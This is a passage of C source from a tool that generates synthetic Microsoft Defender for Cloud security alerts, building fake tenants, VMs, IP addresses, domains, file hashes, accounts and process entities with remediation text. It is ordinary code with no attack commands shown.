    P_SQL,
    P_APP,
    P_COSMOS,
    P_APIM,
    P_AI,
    P_PIP,
    P_DOMAIN, /* shared */
    P_HASH,   /* shared */
    P_COUNT
};

static const uint32_t pool_size[P_COUNT] = {400, 60, 80, 150, 3000, 150, 40,  15,  8,
                                            20,  25, 8,  4,   6,    20,  800, 1500};

struct scope {
    char tenant[37], sub[37], workspace[37];
    const char *company;
    char upn_suffix[48];
    char ntdomain[24];
    const char *region;
    char ws_rg[48];
};

/* A machine of a scope's pool; the strings live in the per-alert string pool. */
struct vminfo {
    const char *name, *rg, *id, *agent;
    enum os os;
    const char *os_version;
};

/* ------------------------------------------------------------------------- */
/* One alert being built: its entities are a small object graph.             */

#define MAX_ENTS 40
#define MAX_FIELDS 16
#define MAX_EXT 14
#define MAX_STEPS 4

enum fkind { F_STR, F_INT, F_DBL, F_BOOL, F_REF, F_REFS };

struct field {
    const char *key;
    unsigned char kind;
    unsigned char n; /* F_REFS count */
    union {
        const char *s;
        int64_t i;
        double d;
        int ref;
        int refs[4];
    } v;
};

struct ent {
    const char *type; /* NULL for a plain nested object (Location, ThreatIntelligence item) */
    int top;          /* listed in the alert's entity array */
    int id;           /* Json.NET $id once written, 0 before */
    int nf;
    struct field f[MAX_FIELDS];
};

struct kv {
    const char *k, *v;
};

enum shape { SHAPE_REST = 0, SHAPE_EXPORT, SHAPE_SENTINEL, SHAPE_COUNT };
static const char *const shape_names[SHAPE_COUNT] = {"rest", "export", "sentinel"};

struct alert {
    const struct row *row;
    const struct scope *sc;
    enum shape shape;
    int64_t start, end, generated, processed;
    char id[64];
    const char *severity;
    int status; /* 0 Active/New, 1 InProgress, 2 Resolved, 3 Dismissed */
    const char *resource_id;
    const char *resource_rg;
    const char *compromised;
    const char *description;
    const char *steps[MAX_STEPS];
    int nsteps;
    struct kv ext[MAX_EXT];
    int next;
    const char *agent_id; /* LogAnalytics identifier when the alert comes from an agent */
    const char *correlation_key;
    const char *alert_uri;
    int detail;  /* 0 terse, 1 usual, 2 rich: how many optional entities and properties */
    int minimal; /* a terse alert with a bare envelope: no correlation key, no AAD identifier,
                  * at most 2 extended properties (--detail-mix) */
    int with_links;
    int with_aad; /* export: an AAD resource identifier too */
    struct ent ents[MAX_ENTS];
    int nents;
};

/* What an alert is about: one entity of each pool, drawn or imposed by a story. */
struct picks {
    uint32_t idx[P_COUNT];
    int attack_ip;     /* the alert's IP comes from the attacker pool */
    int sp;            /* the acting principal is a service principal */
    int force_account; /* stories: always name the principal */
    int force_ip;      /* stories: always name the IP */
    int proc_slot;     /* stories: -1, or a process shared across alerts on one vm */
    int64_t proc_time;
    int arm_target; /* pool of an ARM alert's target resource, or -1 for the subscription */
};

struct spec {
    int64_t start;
    int64_t arrival;
    uint32_t row;
    uint32_t scope;
    int32_t story; /* -1 for background */
    uint8_t shape;
};

struct story {
    struct picks picks;
};

#define STRPOOL_SIZE (1u << 20)

struct gen {
    uint64_t seed;
    struct rng rng;
    struct catalog cat;
    struct scope *scopes;
    uint32_t nscopes;
    struct zipf zipf[P_COUNT];
    double plan_cdf[GP_COUNT];
    char *strpool;
    size_t strpool_used;
    struct buf out, tmp, tmp2;
    struct story *stories;
    uint32_t nstories;
    int64_t span_start, span_ticks;
    int64_t lifetime_ticks; /* --lifetime-days: 0 = pool entities live forever */
    uint32_t detail_cut[3]; /* --detail-mix: d < cut[0] minimal, < cut[1] terse, < cut[2] usual */
};

/* Per-alert strings: a bump pool reset before each alert. */
static char *sp_alloc(struct gen *g, size_t n)
{
    if (g->strpool_used + n > STRPOOL_SIZE) {
        die("string pool exhausted while building one alert");
    }
    char *p = g->strpool + g->strpool_used;
    g->strpool_used += n;
    return p;
}

__attribute__((format(printf, 2, 3))) static char *sp_fmt(struct gen *g, const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    size_t room = STRPOOL_SIZE - g->strpool_used;
    int n = vsnprintf(g->strpool + g->strpool_used, room, fmt, ap);
    va_end(ap);
    if (n < 0 || (size_t)n >= room) {
        die("string pool exhausted while building one alert");
    }
    char *p = g->strpool + g->strpool_used;
    g->strpool_used += (size_t)n + 1;
    return p;
}

static char *sp_guid(struct gen *g, uint64_t h)
{
    char *p = sp_alloc(g, 37);
    fmt_guid(mix64(h), mix64(h ^ 0x5555555555555555ull), p);
    return p;
}

static char *sp_time(struct gen *g, int64_t t)
{
    char *p = sp_alloc(g, TIME_TEXT);
    fmt_time(t, p);
    return p;
}

/* Replace %D and %I in a command line template. */
static const char *sp_subst(struct gen *g, const char *tpl, const char *domain, const char *ip)
{
    size_t n = strlen(tpl) + strlen(domain) * 2 + strlen(ip) * 2 + 1;
    char *out = sp_alloc(g, n);
    size_t o = 0;
    for (const char *p = tpl; *p; p++) {
        const char *rep = NULL;
        if (p[0] == '%' && p[1] == 'D') {
            rep = domain;
        } else if (p[0] == '%' && p[1] == 'I') {
            rep = ip;
        }
        if (rep != NULL) {
            size_t k = strlen(rep);
            memcpy(out + o, rep, k);
            o += k;
            p++;
        } else {
            out[o++] = *p;
        }
    }
    out[o] = '\0';
    return out;
}

static uint64_t ent_hash(const struct gen *g, uint32_t scope, enum pool pool, uint32_t idx)
{
    int shared = pool == P_IP_ATTACK || pool == P_DOMAIN || pool == P_HASH;
    return hash4(g->seed, shared ? 0xffffffffu : scope, (uint64_t)pool, idx);
}

static void scope_init(const struct gen *g, uint32_t i, struct scope *s)
{
    uint64_t h = hash4(g->seed, i, 0x5c09e, 0);
    fmt_guid(mix64(h + 1), mix64(h + 2), s->tenant);
    fmt_guid(mix64(h + 3), mix64(h + 4), s->sub);
    fmt_guid(mix64(h + 5), mix64(h + 6), s->workspace);
    s->company = companies[i % ARRAY_LEN(companies)];
    unsigned gen_no = (unsigned)(i / ARRAY_LEN(companies));
    if (gen_no == 0) {
        snprintf(s->upn_suffix, sizeof s->upn_suffix, "%s.com", s->company);
    } else {
        snprintf(s->upn_suffix, sizeof s->upn_suffix, "%s%u.onmicrosoft.com", s->company, gen_no);
    }
    size_t k = 0;
    for (; s->company[k] && k < 10; k++) {
        s->ntdomain[k] = (char)(s->company[k] - 'a' + 'A');
    }
    s->ntdomain[k] = '\0';
    s->region = HPICK(mix64(h + 7), regions);
    snprintf(s->ws_rg, sizeof s->ws_rg, "rg-sentinel-%s", s->company);
}

static void ip_text(const struct gen *g, uint32_t scope, enum pool pool, uint32_t idx, char out[48])
{
    static const unsigned first_octets[] = {20,  23,  31,  37,  40,  45,  51,  62,  77,  78,
                                            80,  81,  85,  89,  91,  92,  93,  95,  103, 104,
                                            109, 141, 146, 149, 154, 162, 167, 176, 178, 185,
                                            188, 193, 194, 195, 203, 212, 213, 217};
    uint64_t h = ent_hash(g, scope, pool, idx);
    unsigned a = (unsigned)(h >> 8 & 0xff), b = (unsigned)(h >> 16 & 0xff),
             c = (unsigned)(h >> 24 & 0xff) % 254 + 1;
    if (pool == P_IP_ATTACK && h % 100 < 6) {
        snprintf(out, 48, "2a0%x:%x:%x:%x::%x", (unsigned)(h >> 32 & 0xf),
                 (unsigned)(h >> 36 & 0xfff), (unsigned)(h >> 48 & 0xffff),
                 (unsigned)(h >> 40 & 0xff), (unsigned)(h & 0xfff) + 1);
    } else if (pool == P_IP_SCOPE && h % 2 == 0) {
        snprintf(out, 48, "10.%u.%u.%u", a, b, c);
    } else {
        snprintf(out, 48, "%u.%u.%u.%u", HPICK(h >> 40, first_octets), a, b, c);
    }
}

static void vm_info(struct gen *g, uint32_t scope, uint32_t idx, struct vminfo *vm)
{
    const struct scope *s = &g->scopes[scope];
    uint64_t h = ent_hash(g, scope, P_VM, idx);
    const char *role = HPICK(h, roles);
    const char *env = HPICK(h >> 8, envs);
    vm->os = (h >> 16) % 100 < 55 ? OS_WINDOWS : OS_LINUX;
    if (strcmp(role, "dc") == 0) {
        vm->os = OS_WINDOWS;
    }
    vm->os_version = vm->os == OS_WINDOWS
                         ? ((h >> 20) % 2 ? "Windows Server 2022" : "Windows Server 2019")
                         : ((h >> 20) % 2 ? "Ubuntu 22.04" : "RHEL 8.8");
    vm->name = sp_fmt(g, "%s-%s-%02u", role, env, idx % 97 + 1);
    vm->rg = sp_fmt(g, "rg-%s-%s", role, env);
    vm->agent = sp_guid(g, h + 11);
    unsigned kind = (unsigned)((h >> 24) % 100);
    if (kind < 8) {
        vm->id = sp_fmt(g,
                        "/subscriptions/%s/resourceGroups/%s/providers/Microsoft.Compute/"
                        "virtualMachineScaleSets/%s-vmss/virtualMachines/%u",
                        s->sub, vm->rg, vm->name, (unsigned)(h >> 32) % 12);
    } else if (kind < 15) {
        vm->id = sp_fmt(
            g, "/subscriptions/%s/resourceGroups/%s/providers/Microsoft.HybridCompute/machines/%s",
            s->sub, vm->rg, vm->name);
    } else {
        vm->id = sp_fmt(
            g, "/subscriptions/%s/resourceGroups/%s/providers/Microsoft.Compute/virtualMachines/%s",
            s->sub, vm->rg, vm->name);
    }
}

/* The resource id of a non-VM pool entity; *rg and *name receive its group and name. */
static const char *resource_of(struct gen *g, uint32_t scope, enum pool pool, uint32_t idx,
                               const char **rg_out, const char **name_out)
{
    const struct scope *s = &g->scopes[scope];
    uint64_t h = ent_hash(g, scope, pool, idx);
    const char *env = HPICK(h >> 8, envs);
    const char *role = HPICK(h, roles);
    const char *name = NULL, *rg = NULL, *id = NULL;
    switch (pool) {
    case P_STORAGE:
        name = sp_fmt(g, "st%.10s%s%s%02u", s->company, role, env, idx);
        rg = sp_fmt(g, "rg-data-%s", env);
        id = sp_fmt(
            g, "/subscriptions/%s/resourceGroups/%s/providers/Microsoft.Storage/storageAccounts/%s",
            s->sub, rg, name);
        break;
    case P_KEYVAULT:
        name = sp_fmt(g, "kv-%.10s-%s-%02u", s->company, env, idx);
        rg = sp_fmt(g, "rg-security-%s", env);
        id = sp_fmt(g, "/subscriptions/%s/resourceGroups/%s/providers/Microsoft.KeyVault/vaults/%s",
                    s->sub, rg, name);
        break;
    case P_CLUSTER:
        name = sp_fmt(g, "aks-%s-%02u", env, idx);
        rg = sp_fmt(g, "rg-aks-%s", env);
        if (h % 10 == 0) {
            id = sp_fmt(g,
                        "/subscriptions/%s/resourceGroups/%s/providers/Microsoft.Kubernetes/"
                        "connectedClusters/%s",
                        s->sub, rg, name);
        } else {
            id = sp_fmt(g,
                        "/subscriptions/%s/resourceGroups/%s/providers/Microsoft.ContainerService/"
                        "managedClusters/%s",
                        s->sub, rg, name);
        }
        break;
    case P_SQL:
        name = sp_fmt(g, "sql-%.10s-%s-%02u", s->company, env, idx);
        rg = sp_fmt(g, "rg-db-%s", env);
        if (h % 4 == 0) {
            id = sp_fmt(g,
                        "/subscriptions/%s/resourceGroups/%s/providers/Microsoft.DBforPostgreSQL/"
                        "flexibleServers/%s",
                        s->sub, rg, name);
        } else {
            id = sp_fmt(g,
                        "/subscriptions/%s/resourceGroups/%s/providers/Microsoft.Sql/servers/%s/"
                        "databases/%sdb",
                        s->sub, rg, name, role);
        }
        break;
    case P_APP:
        name = sp_fmt(g, "app-%.10s-%s-%s%02u", s->company, role, env, idx);
        rg = sp_fmt(g, "rg-web-%s", env);
        id = sp_fmt(g, "/subscriptions/%s/resourceGroups/%s/providers/Microsoft.Web/sites/%s",
                    s->sub, rg, name);
        break;
    case P_COSMOS:
        name = sp_fmt(g, "cosmos-%.10s-%s%02u", s->company, env, idx);
        rg = sp_fmt(g, "rg-db-%s", env);
        id = sp_fmt(g,
                    "/subscriptions/%s/resourceGroups/%s/providers/Microsoft.DocumentDB/"
                    "databaseAccounts/%s",
                    s->sub, rg, name);
        break;
    case P_APIM:
        name = sp_fmt(g, "apim-%.10s-%s%02u", s->company, env, idx);
        rg = sp_fmt(g, "rg-api-%s", env);
        id = sp_fmt(g,
                    "/subscriptions/%s/resourceGroups/%s/providers/Microsoft.ApiManagement/service/"
                    "%s/apis/%s-api",
                    s->sub, rg, name, role);
        break;
    case P_AI:
        name = sp_fmt(g, "oai-%.10s-%s%02u", s->company, env, idx);
        rg = sp_fmt(g, "rg-ai-%s", env);
        id = sp_fmt(
            g,
            "/subscriptions/%s/resourceGroups/%s/providers/Microsoft.CognitiveServices/accounts/%s",
            s->sub, rg, name);
        break;
    case P_PIP:
    default:
        name = sp_fmt(g, "pip-%s-%s-%02u", role, env, idx);
        rg = sp_fmt(g, "rg-net-%s", env);
        id = sp_fmt(
            g,
            "/subscriptions/%s/resourceGroups/%s/providers/Microsoft.Network/publicIPAddresses/%s",
            s->sub, rg, name);
        break;
    }
    if (rg_out != NULL) {
        *rg_out = rg;
    }
    if (name_out != NULL) {
        *name_out = name;
    }
    return id;
}

static const char *domain_of(struct gen *g, uint32_t idx)
{
    uint64_t h = ent_hash(g, 0, P_DOMAIN, idx);
    static const char consonants[] = "bcdfghjklmnpqrstvwxz";
    char label[12];
    unsigned len = 5 + (unsigned)(h % 6);
    for (unsigned i = 0; i < len; i++) {
        label[i] =
            (i % 2) ? "aeiou0123456789"[(h >> (i * 4)) % 15] : consonants[(h >> (i * 5)) % 20];
    }
    label[len] = '\0';
    return sp_fmt(g, "%s-%s.%s", HPICK(h >> 40, domain_words), label, HPICK(h >> 48, tlds));
}

static const char *hash_of(struct gen *g, uint32_t idx, const char **algorithm)
{
    uint64_t h = ent_hash(g, 0, P_HASH, idx);
    unsigned digits = h % 5 == 0 ? 32 : (h % 5 == 1 ? 40 : 64);
    *algorithm = digits == 32 ? "MD5" : digits == 40 ? "SHA1" : "SHA256";
    char *p = sp_alloc(g, digits + 1);
    for (unsigned i = 0; i < digits; i++) {
        if (i % 16 == 0) {
            h = mix64(h + i);
        }
        p[i] = "0123456789abcdef"[(h >> ((i % 16) * 4)) & 15];
    }
    p[digits] = '\0';
    return p;
}

/* A resource id as Defender writes it: sometimes with the upper-case prefix of the public samples.
 */
static const char *id_variant(struct gen *g, const char *id)
{
    if (!rng_chance(&g->rng, 0.2) || strncmp(id, "/subscriptions/", 15) != 0) {
        return id;
    }
    char *p = sp_fmt(g, "/SUBSCRIPTIONS/%s", id + 15);
    char *rg = strstr(p, "/resourceGroups/");
    if (rg != NULL) {
        memcpy(rg, "/RESOURCEGROUPS/", 16);
    }
    return p;
}

/* ------------------------------------------------------------------------- */
/* Entity graph building.                                                    */

static int ent_new(struct alert *a, const char *type, int top)
{
    if (a->nents >= MAX_ENTS) {
        die("too many entities in one alert");
    }
    struct ent *e = &a->ents[a->nents];
    e->type = type;
    e->top = top;
    e->id = 0;
    e->nf = 0;
    return a->nents++;
}

static struct field *field_new(struct alert *a, int e, const char *key, enum fkind kind)
{
    struct ent *en = &a->ents[e];
    if (en->nf >= MAX_FIELDS) {
        die("too many fields in one entity");
    }
    struct field *f = &en->f[en->nf++];
    f->key = key;
    f->kind = (unsigned char)kind;
    f->n = 0;
    return f;
}

static void f_str(struct alert *a, int e, const char *k, const char *v)
{
    field_new(a, e, k, F_STR)->v.s = v;
}

static void f_int(struct alert *a, int e, const char *k, int64_t v)
{
    field_new(a, e, k, F_INT)->v.i = v;
}

static void f_dbl(struct alert *a, int e, const char *k, double v)
{
    field_new(a, e, k, F_DBL)->v.d = v;
}

static void f_bool(struct alert *a, int e, const char *k, int v)
{
    field_new(a, e, k, F_BOOL)->v.i = v;
}

static void f_ref(struct alert *a, int e, const char *k, int target)
{
    field_new(a, e, k, F_REF)->v.ref = target;
}

static void f_refs(struct alert *a, int e, const char *k, const int *targets, int n)
{
    struct field *f = field_new(a, e, k, F_REFS);
    f->n = (unsigned char)n;
    for (int i = 0; i < n && i < 4; i++) {
        f->v.refs[i] = targets[i];
    }
}

static void ext_add(struct alert *a, const char *k, const char *v)
{
    if (a->next < MAX_EXT) {
        a->ext[a->next].k = k;
        a->ext[a->next].v = v;
        a->next++;
    }
}

/* The IP the alert names, with its location and (for attackers) threat intelligence. */
static int add_ip(struct gen *g, struct alert *a, const struct picks *pk, const char **text_out,
                  const struct location **loc_out)
{
    enum pool pool = pk->attack_ip ? P_IP_ATTACK : P_IP_SCOPE;
    uint32_t scope = (uint32_t)(a->sc - g->scopes);
    uint32_t idx = pk->idx[pool];
    char *text = sp_alloc(g, 48);
    ip_text(g, scope, pool, idx, text);
    uint64_t h = ent_hash(g, scope, pool, idx);
    int e = ent_new(a, "ip", 1);
    f_str(a, e, "Address", text);
    const struct location *l = NULL;
    if (a->detail >= 1 && (text[0] != '1' || text[1] != '0' || text[2] != '.')) {
        l = &HPICK(h >> 3, locations);
        int loc = ent_new(a, NULL, 0);
        f_str(a, loc, "CountryCode", l->cc);
        f_str(a, loc, "City", l->city);
        if (a->detail == 2) {
            f_dbl(a, loc, "Longitude", l->lon);
            f_dbl(a, loc, "Latitude", l->lat);
        }
        f_int(a, loc, "Asn", l->asn);
        f_ref(a, e, "Location", loc);
        if (pool == P_IP_ATTACK && a->detail == 2 && h % 2 == 0) {
            int ti = ent_new(a, NULL, 0);
            f_str(a, ti, "ProviderName", "Microsoft Threat Intelligence");
            f_str(a, ti, "ThreatType", "Botnet");
            f_str(a, ti, "ThreatName", HPICK(h >> 17, threat_names));
            f_dbl(a, ti, "Confidence", 0.8);
            f_str(a, ti, "ThreatDescription", "");
            f_refs(a, e, "ThreatIntelligence", &ti, 1);
        }
    }
    if (text_out != NULL) {
        *text_out = text;
    }
    if (loc_out != NULL) {
        *loc_out = l;
    }
    return e;
}

static int add_azure_resource(struct alert *a, const char *id)
{
    int e = ent_new(a, "azure-resource", 1);
    f_str(a, e, "ResourceId", id);
    return e;
}

/* The acting cloud principal: an AAD user or a service principal (no UPN suffix, no domain). */
static int add_principal(struct gen *g, struct alert *a, const struct picks *pk,
                         const char **name_out)
{
    uint32_t scope = (uint32_t)(a->sc - g->scopes);
    int e = ent_new(a, "account", 1);
    if (pk->sp) {
        uint32_t idx = pk->idx[P_SP];
        uint64_t h = ent_hash(g, scope, P_SP, idx);
        const char *name = sp_fmt(g, "%s-%02u", HPICK(h, sp_names), idx);
        f_str(a, e, "Name", name);
        f_str(a, e, "AadTenantId", a->sc->tenant);
        f_str(a, e, "AadUserId", sp_guid(g, h));
        if (name_out != NULL) {
            *name_out = name;
        }
    } else {
        uint32_t idx = pk->idx[P_USER];
        uint64_t h = ent_hash(g, scope, P_USER, idx);
        const char *name = sp_fmt(g, "%s.%s%s", HPICK(h, first_names), HPICK(h >> 8, last_names),
                                  idx >= 120 ? sp_fmt(g, "%u", idx % 100) : "");
        f_str(a, e, "Name", name);
        f_str(a, e, "UPNSuffix", a->sc->upn_suffix);
        f_str(a, e, "AadTenantId", a->sc->tenant);
        f_str(a, e, "AadUserId", sp_guid(g, h));
        f_bool(a, e, "IsDomainJoined", 0);
        if (name_out != NULL) {
            *name_out = sp_fmt(g, "%s@%s", name, a->sc->upn_suffix);
        }
    }
    return e;
}

static int add_host(struct gen *g, struct alert *a, const struct vminfo *vm)
{
    int e = ent_new(a, "host", 1);
    f_str(a, e, "HostName", vm->name);
    if (vm->os == OS_WINDOWS && a->detail == 2) {
        f_str(a, e, "NetBiosName", vm->name);
        f_str(a, e, "NTDomain", a->sc->ntdomain);
    }
    f_str(a, e, "AzureID", id_variant(g, vm->id));
    f_str(a, e, "OMSAgentID", vm->agent);
    f_str(a, e, "OSFamily", vm->os == OS_WINDOWS ? "Windows" : "Linux");
    if (a->detail >= 1) {
        f_str(a, e, "OSVersion", vm->os_version);
    }
    return e;
}

static int add_host_account(struct gen *g, struct alert *a, const struct picks *pk,
                            const struct vminfo *vm, int host, const char **name_out)
{
    uint32_t scope = (uint32_t)(a->sc - g->scopes);
    uint64_t h = ent_hash(g, scope, P_HOSTACCT, pk->idx[P_HOSTACCT]);
    int e = ent_new(a, "account", 1);
    if (rng_chance(&g->rng, 0.15)) {
        const char *name = vm->os == OS_WINDOWS ? PICK(&g->rng, builtin_users) : "root";
        f_str(a, e, "Name", name);
        f_ref(a, e, "Host", host);
        *name_out = name;
        return e;
    }
    const char *name = HPICK(h, host_users);
    f_str(a, e, "Name", name);
    if (vm->os == OS_WINDOWS) {
        f_str(a, e, "NTDomain", a->sc->ntdomain);
        f_str(a, e, "Sid",
              sp_fmt(g, "S-1-5-21-%u-%u-%u-%u", (unsigned)(h >> 32) % 4000000000u,
                     (unsigned)(h >> 8) % 2000000000u, (unsigned)h % 3000000000u,
                     1000 + (unsigned)(h >> 48) % 9000));
        f_bool(a, e, "IsDomainJoined", 1);
        *name_out = sp_fmt(g, "%s\\%s", a->sc->ntdomain, name);
    } else {
        f_str(a, e, "NTDomain", vm->name);
        *name_out = name;
    }
    f_ref(a, e, "Host", host);
    f_str(a, e, "LogonId", sp_fmt(g, "0x%x", (unsigned)(rng_next(&g->rng) & 0xfffffff)));
    return e;
}

/* A file with its hash; the filehash is defined inside FileHashes and listed again on its own. */
static int add_file(struct gen *g, struct alert *a, const char *dir, const char *name, int host,
                    uint32_t hash_idx, int *hash_out)
{
    const char *algorithm;
    const char *value = hash_of(g, hash_idx, &algorithm);
    int e = ent_new(a, "file", 1);
    int fh = ent_new(a, "filehash", 1);
    f_str(a, fh, "Algorithm", algorithm);
    f_str(a, fh, "Value", value);
    f_str(a, e, "Directory", dir);
    f_str(a, e, "Name", name);
    f_refs(a, e, "FileHashes", &fh, 1);
    if (host >= 0) {
        f_ref(a, e, "Host", host);
    }
    if (hash_out != NULL) {
        *hash_out = fh;
    }
    return e;
}

struct proc_out {
    const char *path, *cmd, *pid;
};

static int add_process(struct gen *g, struct alert *a, const struct picks *pk,
                       const struct vminfo *vm, int host, int account, const char *domain,
                       const char *ip, struct proc_out *po)
{
    uint32_t scope = (uint32_t)(a->sc - g->scopes);
    const struct image *im;
    const struct image *par;
    unsigned pid;
    int64_t created;
    uint64_t h;
    if (pk->proc_slot >= 0) {
        h = hash4(g->seed, scope, pk->idx[P_VM], 0x9000u + (unsigned)pk->proc_slot);
        created = pk->proc_time;
    } else {
        h = rng_next(&g->rng);
        created = a->start - (int64_t)(h >> 40) % (2 * TICKS_PER_HOUR);
    }
    do {
        im = &images[h % ARRAY_LEN(images)];
        h = mix64(h);
    } while (vm->os != OS_ANY && im->os != vm->os);
    do {
        par = &parents[h % ARRAY_LEN(parents)];
        h = mix64(h);
    } while (vm->os != OS_ANY && par->os != vm->os);
    pid = 0x400 + (unsigned)(h % 0xff000);

    int parent = -1;
    if (a->detail == 2) {
        int pfile = add_file(g, a, par->dir, par->name, host, (uint32_t)(h >> 20) % 40, NULL);
        parent = ent_new(a, "process", 1);
        f_str(a, parent, "ProcessId", sp_fmt(g, "0x%x", pid / 3 + 4));
        f_str(a, parent, "CommandLine", par->cmd);
        f_ref(a, parent, "ImageFile", pfile);
        f_ref(a, parent, "Host", host);
    }

    const char *cmd = sp_subst(g, im->cmd, domain, ip);
    int file =
        add_file(g, a, im->dir, im->name, host, (uint32_t)(h >> 8) % pool_size[P_HASH], NULL);
    int e = ent_new(a, "process", 1);
    const char *pid_text = sp_fmt(g, "0x%x", pid);
    f_str(a, e, "ProcessId", pid_text);
    f_str(a, e, "CommandLine", cmd);
    f_str(a, e, "CreationTimeUtc", sp_time(g, created));
    if (vm->os == OS_WINDOWS) {
        f_str(a, e, "ElevationToken", "Default");
    }
    f_ref(a, e, "ImageFile", file);
    if (account >= 0) {
        f_ref(a, e, "Account", account);
    }
    if (parent >= 0) {
        f_ref(a, e, "ParentProcess", parent);
    }
    f_ref(a, e, "Host", host);
    po->path = sp_fmt(g, "%s%c%s", im->dir, vm->os == OS_WINDOWS ? '\\' : '/', im->name);
    po->cmd = cmd;
    po->pid = pid_text;
    return e;
}

/* ------------------------------------------------------------------------- */
/* Plan-specific content: resource, entities, extended properties, text.     */

static const char *const remediation[GP_COUNT][3] = {
    [GP_SERVERS] = {"Review the process and the account that ran it.",
                    "Isolate the machine if the activity is unexpected.",
                    "Run a full antimalware scan."},
    [GP_APPSERVICE] = {"Review the site logs for the source IP.", "Restrict access to the site.",
                       "Rotate the deployment credentials."},
    [GP_STORAGE] = {"Limit access with least privilege.", "Revoke SAS tokens and rotate the keys.",
                    "Review the storage logs for the client IP."},
    [GP_SQL] = {"Verify the login with the account owner.", "Block the IP in the server firewall.",
                "Review the SQL audit logs."},
    [GP_COSMOS] = {"Review the account's firewall settings.", "Regenerate the account keys.",
                   "Use Entra ID authentication instead of keys."},
    [GP_KEYVAULT] = {"Contact the principal to confirm the access.", "Rotate the affected secrets.",
                     "Review the key vault logs."},
    [GP_ARM] = {"Confirm the operations with the principal.", "Reset the principal's credentials.",
                "Review the activity log for the same IP."},
    [GP_DNS] = {"Review the process that resolved the domain.",
                "Block the domain at your resolver.", "Scan the machine for malware."},
    [GP_CONTAINERS] = {"Review the workload and who deployed it.",
                       "Rotate the cluster credentials.", "Enforce pod security admission."},
    [GP_APIS] = {"Review the API traffic from the source IP.", "Apply rate limiting policies.",
                 "Rotate the subscription keys."},
    [GP_AI] = {"Review the prompts and the caller.", "Restrict network access to the deployment.",
               "Rotate the account keys."},
    [GP_NETWORK] = {"Review the network security group rules.", "Block the remote IP.",
                    "Enable just-in-time VM access."},
};

static void build_servers(struct gen *g, struct alert *a, const struct picks *pk, int network,
                          int dns)
{
    uint32_t scope = (uint32_t)(a->sc - g->scopes);
    struct vminfo vm;
    vm_info(g, scope, pk->idx[P_VM], &vm);
    const char *domain = domain_of(g, pk->idx[P_DOMAIN]);
    a->resource_id = id_variant(g, vm.id);
    a->resource_rg = vm.rg;
    a->compromised = vm.name;
    a->agent_id = a->detail >= 1 && rng_chance(&g->rng, 0.5) ? vm.agent : NULL;
    int host = add_host(g, a, &vm);
    const char *ip = "";
    int has_ip = pk->force_ip || network || dns || rng_chance(&g->rng, 0.35);
    int ip_ent = -1;
    if (has_ip) {
        ip_ent = add_ip(g, a, pk, &ip, NULL);
    }
    if (network) {
        if (ip_ent >= 0 && rng_chance(&g->rng, 0.5)) {
            int nc = ent_new(a, "network-connection", 1);
            f_ref(a, nc, "SourceAddress", ip_ent);
            f_int(a, nc, "DestinationPort", vm.os == OS_WINDOWS ? 3389 : 22);
            f_str(a, nc, "Protocol", "Tcp");
        }
        ext_add(a, "Attacker IP", ip);
        ext_add(a, "Destination Port", vm.os == OS_WINDOWS ? "3389" : "22");
        ext_add(a, "Protocol", "TCP");
        ext_add(a, "Number of Connections", sp_fmt(g, "%u", 10 + rng_below(&g->rng, 5000)));
        ext_add(a, "resourceType", "Virtual Machine");
        a->description =
            sp_fmt(g, "Network traffic analysis detected %s communicating with %s over %s.", ip,
                   vm.name, vm.os == OS_WINDOWS ? "RDP" : "SSH");
        return;
    }
    if (dns) {
        int dn = ent_new(a, "dns", 1);
        f_str(a, dn, "DomainName", domain);
        f_refs(a, dn, "IpAdresses", &ip_ent, 1);
        ext_add(a, "Domain Name", domain);
        ext_add(a, "Resolved IP", ip);
        ext_add(a, "resourceType", "Virtual Machine");
        a->description =
            sp_fmt(g, "Analysis of DNS transactions from %s detected a lookup of '%s' (%s).",
                   vm.name, domain, ip);
        return;
    }
    const char *acct_name = "";
    int acct = -1;
    if (a->detail >= 1 || rng_chance(&g->rng, 0.4)) {
        acct = add_host_account(g, a, pk, &vm, host, &acct_name);
    }
    struct proc_out po = {"", "", ""};
    if (pk->proc_slot >= 0 || (a->detail >= 1 && rng_chance(&g->rng, 0.6))) {
        add_process(g, a, pk, &vm, host, acct, domain, ip[0] ? ip : "203.0.113.7", &po);
        ext_add(a, "Suspicious Process", po.path);
        ext_add(a, "Suspicious Command Line", po.cmd);
        ext_add(a, "Suspicious Process Id", po.pid);
    }
    ext_add(a, "Compromised Host", vm.name);
    if (acct_name[0]) {
        ext_add(a, "User Name", acct_name);
    }
    if (a->detail == 2) {
        ext_add(a, "Account Session Id",
                sp_fmt(g, "0x%x", (unsigned)rng_below(&g->rng, 0xfffffff)));
    }
    if (has_ip) {
        ext_add(a, "Client IP address", ip);
    }
    if (po.cmd[0]) {
        a->description =
            sp_fmt(g, "Analysis of host data on %s detected the process '%s' run by %s.", vm.name,
                   po.path, acct_name);
    } else {
        a->description = sp_fmt(g, "Analysis of host data on %s detected suspicious activity%s%s.",
                                vm.name, acct_name[0] ? " by " : "", acct_name);
    }
}

static void build_ddos(struct gen *g, struct alert *a, const struct picks *pk)
{
    uint32_t scope = (uint32_t)(a->sc - g->scopes);
    const char *rg, *name;
    const char *id = resource_of(g, scope, P_PIP, pk->idx[P_PIP], &rg, &name);
    a->resource_id = id_variant(g, id);
    a->resource_rg = rg;
    a->compromised = name;
    char *public_ip = sp_alloc(g, 48);
    ip_text(g, scope, P_IP_ATTACK, pk->idx[P_PIP] + 100000, public_ip);
    add_azure_resource(a, id);
    int e = ent_new(a, "ip", 1);
    f_str(a, e, "Address", public_ip);
    ext_add(a, "Public IP address", public_ip);
    ext_add(a, "Attack vectors", "UDP flood, TCP SYN flood");
    ext_add(a, "Max attack bandwidth (Mbps)", sp_fmt(g, "%u", 100 + rng_below(&g->rng, 40000)));
    a->description = sp_fmt(g, "Azure DDoS Protection detected an attack on the public IP %s (%s).",
                            public_ip, name);
}

/* Storage, Key Vault, SQL, Cosmos DB, App Service, APIs, AI: a PaaS resource, a client IP, a
 * principal. */
static void build_paas(struct gen *g, struct alert *a, const struct picks *pk, enum pool pool)
{
    uint32_t scope = (uint32_t)(a->sc - g->scopes);
    const char *rg, *name;
    const char *id = resource_of(g, scope, pool, pk->idx[pool], &rg, &name);
    a->resource_id = id_variant(g, id);
    a->resource_rg = rg;
    a->compromised = name;
    int res = add_azure_resource(a, id);
    const char *ip = "";
    const struct location *loc = NULL;
    add_ip(g, a, pk, &ip, &loc);
    const char *principal = "";
    double p_account = pool == P_KEYVAULT  ? 1.0
                       : pool == P_STORAGE ? 0.45
                       : pool == P_AI      ? 0.5
                                           : 0.2;
    if (pk->force_account || rng_chance(&g->rng, p_account)) {
